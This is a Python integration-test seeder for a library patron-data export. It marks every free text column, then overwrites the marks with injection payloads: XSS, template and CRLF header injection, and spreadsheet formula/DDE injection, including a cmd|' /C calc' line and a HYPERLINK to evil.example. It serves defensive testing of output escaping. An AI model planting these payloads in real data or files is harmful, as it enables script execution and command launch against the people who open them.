"""Rows of a person of which every text is a mark, so that wherever one comes out it is known, and what became of it."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import sqlalchemy as sa

from carrel.systems.sql.person_selection import is_text
from tests.integration.run.person_seed import Seeder

if TYPE_CHECKING:
    from carrel.inventory.schema import Column, Table
    from tests.integration.conftest import Koha

MARK = re.compile(r"q[ABN]\d+q")
# Each breaks out of another place: an element, an attribute of either quote, a script, a comment, a template, a cell.
EVIL = (
    '"><img src=x onerror=alert("{0}")>',
    "' onmouseover='alert(1)' x='{0}",
    "</title></style></script><script>{0}()</script>",
    "javascript:alert({0})",
    "{{{{ 7 * 7 }}}}{{% raw %}}{0}",
    "<!--{0}",
    '=HYPERLINK("http://evil.example/{0}")',
    "@SUM(1+9)*cmd|' /C calc'!{0}",
    "\t=1+{0}",
    "-2+3+cmd|{0}",
    "\uff1d1+{0}",
    "&lt;script&gt;{0}&#x3c;b&#x3e;",
    "]]><svg/onload={0}>",
    "\x1b[31m\u202e{0}\u2028\x85<b>",
    "%0d%0aSet-Cookie: carrel={0}",
    "</textarea></select></option><input name=form value={0}>",
    '{0}" autofocus onfocus="alert(1)" "',
)


class MarkedRows(Seeder):
    """Puts rows into a library in which every text that no rule or key reads is a mark.

    Args:
        koha: the library, on SQLite, where a text is as long as it likes.
    """

    def __init__(self, koha: Koha) -> None:
        super().__init__(koha)
        self._mine: dict[str, str] = {}
        self._marks = 0

    def whole_person(self, letter: str, **values: Any) -> tuple[int, dict[str, int]]:
        """A patron with rows in every table that can hold one; the number, and how many rows per table.

        Args:
            letter: of the marks.
            values: card and user name among them.
        """
        number = self._next + 1
        self._mine = dict.fromkeys((str(number), values["cardnumber"], values["userid"]), letter)
        self.patron(**values)
        said = self.traces(number, values["cardnumber"], values["userid"])
        self._mine = {}
        return number, said

    def row(self, name: str, /, **values: Any) -> dict[str, Any]:
        """As of a `Seeder`, with marks."""
        table = self.schema.tables[name]
        letter = next((self._mine[str(one)] for one in values.values() if str(one) in self._mine), "N")
        marked = {
            one.name: self._mark(letter) for one in table.columns if one.name not in values and _is_free(table, one)
        }
        return super().row(name, **values, **marked)

    def library(self) -> None:
        """Mark what the library itself wrote: every free text of every table that holds nobody."""
        persons = {*self.person.tables, self.map.people.table, *self.map.person_columns}
        with self.koha.engine().begin() as connection:
            for name, table in self.schema.tables.items():
                free = [one.name for one in table.columns if _is_free(table, one)]
                if name in persons or not free:
                    continue
                for (row,) in connection.exec_driver_sql(f'SELECT rowid FROM "{name}"').all():
                    said = ", ".join(f"\"{one}\" = '{self._mark('N')}'" for one in free)
                    connection.exec_driver_sql(f'UPDATE "{name}" SET {said} WHERE rowid = {row}')

    def turn_evil(self) -> int:
        """Every mark becomes a text that wants out of its place, with the mark in it; how many there were."""
        turned = 0
        with self.koha.engine().begin() as connection:
            for name, table in self.schema.tables.items():
                for one in table.columns:
                    if not is_text(one):
                        continue
                    query = f'SELECT rowid, "{one.name}" FROM "{name}" WHERE "{one.name}" LIKE \'q%q\''
                    for row, value in connection.exec_driver_sql(query).all():
                        if not MARK.fullmatch(str(value)):
                            continue
                        evil = EVIL[turned % len(EVIL)].format(value)
                        change = sa.text(f'UPDATE "{name}" SET "{one.name}" = :evil WHERE rowid = :row')
                        connection.execute(change, {"evil": evil, "row": row})
                        turned += 1
        return turned

    def _mark(self, letter: str) -> str:
        self._marks += 1
        return f"q{letter}{self._marks}q"


def _is_free(table: Table, column: Column) -> bool:
    """Whether a column holds a text that neither a key nor a list of allowed words binds."""
    keys = {name for key in table.foreign_keys for name in key.columns} | set(table.primary_key)
    if column.name in keys or not is_text(column) or column.type.lower().startswith(("enum", "set")):
        return False
    return column.name not in {"password", "cardnumber", "userid"}
